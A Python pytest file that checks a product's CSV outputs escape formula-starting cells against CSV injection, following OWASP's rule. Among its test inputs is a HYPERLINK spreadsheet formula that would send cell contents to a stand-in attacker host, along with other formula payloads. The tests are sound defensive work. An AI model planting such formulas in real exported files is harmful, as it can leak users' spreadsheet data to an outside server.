"""CSV injection: every CSV the product writes escapes text cells a spreadsheet would run.

The rule checked is OWASP's ("CSV Injection", https://owasp.org/www-community/attacks/CSV_Injection):
a cell starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return is a formula to a
spreadsheet; the escape is a leading single quote. The checks read the written files with the
standard library's ``csv`` module, not with the code under test, and the hostile values are
literals here, so an unescaped writer fails them.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
import zipfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bcl_core.io.csv_safe import escape_cell, unescape_cell

HOSTILE_PREFIXES = ("=", "+", "-", "@", "\t", "\r")  # OWASP's list, written out independently
HYPERLINK = '=HYPERLINK("http://attacker.example/?x="&A1,"open")'


def _is_plain_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return cell.strip() == cell and cell.lower() not in {"nan", "inf", "-inf", "+inf",
                                                          "infinity", "-infinity"}


def _dangerous_cells(text: str) -> list[str]:
    """Cells of a CSV document that a spreadsheet would evaluate as formulas."""
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row
            if cell.startswith(HOSTILE_PREFIXES) and not _is_plain_number(cell)]


def _cells(text: str) -> set[str]:
    return {cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row}


# --- the escape itself ----------------------------------------------------------------------
@pytest.mark.parametrize("value", ["=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1", "\r=1",
                                   HYPERLINK])
def test_formula_text_gets_a_leading_quote(value: str) -> None:
    assert escape_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["C0001", "R002", "case 1=2", "", "0.25", "type1"])
def test_ordinary_text_is_unchanged(value: str) -> None:
    assert escape_cell(value) == value


@pytest.mark.parametrize("value", [-0.5, -3, 0.0, None, True, "-0.5", "+3", "-1e-4"])
def test_numbers_stay_numbers(value: object) -> None:
    assert escape_cell(value) == value


@given(st.text())
def test_escape_round_trips_and_never_leaves_a_formula(value: str) -> None:
    escaped = escape_cell(value)
    assert unescape_cell(escaped) == value
    assert not (str(escaped).startswith(HOSTILE_PREFIXES) and not _is_plain_number(str(escaped)))


def test_hand_made_quote_ids_read_as_written() -> None:
    # A quote not followed by a formula character was not added by the escape.
    assert unescape_cell("'abc") == "'abc"
    assert escape_cell("'abc") == "''abc" and unescape_cell("''abc") == "'abc"


# --- bcl evaluate tables and the Evaluation page's zip --------------------------------------
@pytest.fixture(scope="module")
def hostile_evaluation():
    from bcl_core.evaluation import assemble
    from bcl_core.evaluation.analysis import evaluate
    from bcl_core.evaluation.example import make_example_tables
    from bcl_core.evaluation.scorers import EvaluationSettings

    tables = make_example_tables(n_cases=60, n_readers=2, seed=3)
    reads = tables.reads.copy()
    first = sorted(reads["reader_id"].unique())[0]
    reads["reader_id"] = reads["reader_id"].replace({first: "=1+1"})

    def as_csv(frame):
        return io.StringIO(frame.to_csv(index=False))

    data = assemble(as_csv(tables.predictions), as_csv(tables.labels), as_csv(reads))
    return evaluate(data, EvaluationSettings(n_resamples=50))


def test_evaluate_tables_escape_a_hostile_reader_id(hostile_evaluation, tmp_path: Path) -> None:
    from bcl_core.evaluation.report import write_report

    write_report(hostile_evaluation, tmp_path, pngs=False)
    written = {p.name: p.read_text(encoding="utf-8") for p in (tmp_path / "tables").glob("*.csv")}
    assert written
    seen = 0
    for name, text in written.items():
        assert _dangerous_cells(text) == [], name
        seen += sum(cell == "'=1+1" for row in csv.reader(io.StringIO(text)) for cell in row)
    assert seen > 0  # the reader is still there, escaped


def test_evaluation_zip_escapes_a_hostile_reader_id(hostile_evaluation) -> None:
    from bcl_core.evaluation.report import tables_zip

    with zipfile.ZipFile(io.BytesIO(tables_zip(hostile_evaluation))) as archive:
        texts = {n: archive.read(n).decode("utf-8") for n in archive.namelist()}
    assert texts and all(_dangerous_cells(t) == [] for t in texts.values())
    assert any("'=1+1" in _cells(t) for t in texts.values())


def test_negative_numbers_in_tables_stay_numbers(hostile_evaluation, tmp_path: Path) -> None:
    import pandas as pd

    from bcl_core.evaluation.report import write_report

    frame = pd.DataFrame({"id": ["-x", "ok"], "difference": [-0.5, 0.25]})
    hostile_evaluation.tables["probe"] = frame
    try:
        write_report(hostile_evaluation, tmp_path, pngs=False)
    finally:
        del hostile_evaluation.tables["probe"]
    rows = list(csv.DictReader((tmp_path / "tables" / "probe.csv").open(encoding="utf-8")))
    assert [r["id"] for r in rows] == ["'-x", "ok"]
    assert [float(r["difference"]) for r in rows] == [-0.5, 0.25]


def test_evaluation_loader_reads_escaped_ids_back(tmp_path: Path) -> None:
    from bcl_core.evaluation import assemble
    from bcl_core.evaluation.example import make_example_tables
    from bcl_core.io.csv_safe import escape_frame

    tables = make_example_tables(n_cases=30, n_readers=2, seed=5)
    predictions, labels, reads = tables.predictions.copy(), tables.labels.copy(), tables.reads.copy()
    old = labels["case_id"].iloc[0]
    for frame in (predictions, labels, reads):
        frame["case_id"] = frame["case_id"].replace({old: "=HYPERLINK(1)"})
    reads["reader_id"] = reads["reader_id"].replace({reads["reader_id"].iloc[0]: "@reader"})
    paths = {}
    for name, frame in (("p", predictions), ("l", labels), ("r", reads)):
        paths[name] = tmp_path / f"{name}.csv"
        escape_frame(frame).to_csv(paths[name], index=False)
    assert "'=HYPERLINK(1)" in paths["l"].read_text()
    data = assemble(paths["p"], paths["l"], paths["r"])
    assert "=HYPERLINK(1)" in data.case_ids
    assert "@reader" in data.reader_ids


# --- bcl predict-batch ----------------------------------------------------------------------
def test_predict_batch_escapes_hostile_case_folders_and_resumes(tmp_path: Path,
                                                                toy_models: Path) -> None:
    from model_fixtures import write_small_case

    from bcl_core.cli import main

    case = write_small_case(tmp_path / "one")
    data = tmp_path / "synth"
    shutil.copytree(case, data / HYPERLINK.replace("/", "|"))
    shutil.copytree(case, data / "+broken")
    truth = json.loads((data / "+broken" / "truth.json").read_text())
    truth["ct_point_mm"] = [9000.0, 9000.0, 9000.0]  # off the image: lands in the errors CSV
    (data / "+broken" / "truth.json").write_text(json.dumps(truth))
    out = tmp_path / "predictions.csv"
    assert main(["predict-batch", str(data), "--out", str(out)]) == 0
    predictions = out.read_text(encoding="utf-8")
    errors = out.with_suffix(".errors.csv").read_text(encoding="utf-8")
    assert _dangerous_cells(predictions) == [] and _dangerous_cells(errors) == []
    rows = list(csv.DictReader(io.StringIO(predictions)))
    assert [r["case_id"] for r in rows] == ["'" + HYPERLINK.replace("/", "|")]
    assert list(csv.DictReader(io.StringIO(errors)))[0]["case_id"] == "'+broken"
    # Resuming recognises the escaped id as the same case: nothing is predicted twice.
    assert main(["predict-batch", str(data), "--out", str(out)]) == 0
    assert len(list(csv.DictReader(out.open(encoding="utf-8")))) == 1


# --- bcl synth labels.csv -------------------------------------------------------------------
def test_phantom_labels_csv_escapes_case_ids(tmp_path: Path) -> None:
    from bcl_core.phantom.writer import LABEL_COLUMNS, write_labels_csv

    row = dict.fromkeys(LABEL_COLUMNS, 0)
    row["case_id"] = "@evil"
    row["oracle_type1"] = 0.125
    path = write_labels_csv([row], tmp_path)
    text = path.read_text(encoding="utf-8")
    assert _dangerous_cells(text) == []
    (read,) = list(csv.DictReader(io.StringIO(text)))
    assert read["case_id"] == "'@evil" and float(read["oracle_type1"]) == 0.125


def test_study_label_import_reads_escaped_case_ids_back(tmp_path: Path) -> None:
    """A labels CSV written by the product (escaped) gives the study import the ids as named."""
    from bcl_core.study.cases import read_label_csv

    path = tmp_path / "labels.csv"
    # What the product's writers put in the file for these two ids (escape written out by hand).
    path.write_text("case_id,type1\n'=HYPERLINK(1),1\nC0001,0\n", encoding="utf-8")
    rows = read_label_csv(path, ("type1",))
    assert [row["case_id"] for row in rows] == ["=HYPERLINK(1)", "C0001"]
    assert [row["type1"] for row in rows] == ["1", "0"]
